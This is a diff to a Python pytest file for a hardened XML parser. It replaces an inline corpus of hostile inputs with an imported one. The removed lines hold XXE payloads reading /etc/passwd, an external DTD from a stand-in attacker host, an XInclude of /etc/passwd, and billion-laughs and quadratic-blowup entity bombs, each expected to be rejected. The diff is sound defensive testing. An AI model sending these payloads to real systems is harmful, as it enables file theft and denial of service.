@@ -11,52 +11,10 @@ from pathlib import Path
 import pytest
 
 from broker.gelxml import FaultCode, GelFault, ParseLimits, parse_untrusted
+from tests.security.attacks import hostile_documents
 
-MB = 1_048_576
-
-CORPUS: dict[str, tuple[bytes, FaultCode]] = {
-    "xxe-local-file": (
-        b'<?xml version="1.0"?>\n<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<m>&x;</m>',
-        FaultCode.PARSE_DTD,
-    ),
-    "billion-laughs": (
-        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
-        + b"".join(
-            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'.encode()
-            for i in range(1, 10)
-        )
-        + b"]>\n<lolz>&lol9;</lolz>",
-        FaultCode.PARSE_DTD,
-    ),
-    "external-dtd": (
-        b'<?xml version="1.0"?>\n<!DOCTYPE mensaje SYSTEM "http://attacker.example/evil.dtd">\n<mensaje/>',
-        FaultCode.PARSE_DTD,
-    ),
-    "quadratic-blowup": (
-        b'<?xml version="1.0"?>\n<!DOCTYPE k [<!ENTITY a "' + b"A" * 50_000 + b'">]>\n<k>'
-        + b"&a;" * 20_000 + b"</k>",
-        FaultCode.PARSE_DTD,
-    ),
-    "ten-mb-text-node": (b"<m>" + b"A" * (10 * MB) + b"</m>", FaultCode.PARSE_TOO_LARGE),
-    "nesting-10000-deep": (b"<a>" * 10_000 + b"</a>" * 10_000, FaultCode.PARSE_TOO_DEEP),
-    "nesting-just-over-limit": (b"<a>" * 65 + b"</a>" * 65, FaultCode.PARSE_TOO_DEEP),
-    "utf16-without-declaration": ("<mensaje>hola</mensaje>".encode("utf-16-le"), FaultCode.PARSE_ENCODING),
-    "utf16-with-bom": ("<mensaje>hola</mensaje>".encode("utf-16"), FaultCode.PARSE_ENCODING),
-    "latin1-declared": (
-        '<?xml version="1.0" encoding="ISO-8859-1"?><m>año</m>'.encode("latin-1"),
-        FaultCode.PARSE_ENCODING,
-    ),
-    "invalid-utf8": (b"<m>\xc3\x28</m>", FaultCode.PARSE_ENCODING),
-    "truncated": (b'<?xml version="1.0"?>\n<mensaje><encabezado><idMensaje>12', FaultCode.PARSE_MALFORMED),
-    "empty": (b"", FaultCode.PARSE_EMPTY),
-    "whitespace-only": (b"  \n\t ", FaultCode.PARSE_EMPTY),
-    "binary-garbage": (bytes(range(256)) * 64, FaultCode.PARSE_ENCODING),
-    "text-not-xml": (b"hola, esto no es XML", FaultCode.PARSE_MALFORMED),
-    "xinclude": (
-        b'<m xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></m>',
-        FaultCode.PARSE_XINCLUDE,
-    ),
-}
+CORPUS: dict[str, tuple[bytes, FaultCode]] = hostile_documents()
+"""The raw documents of tests/security/corpus/ plus the generated ones; attacks.py sends each through the gateway."""
 
 
 @pytest.mark.parametrize("name", sorted(CORPUS))
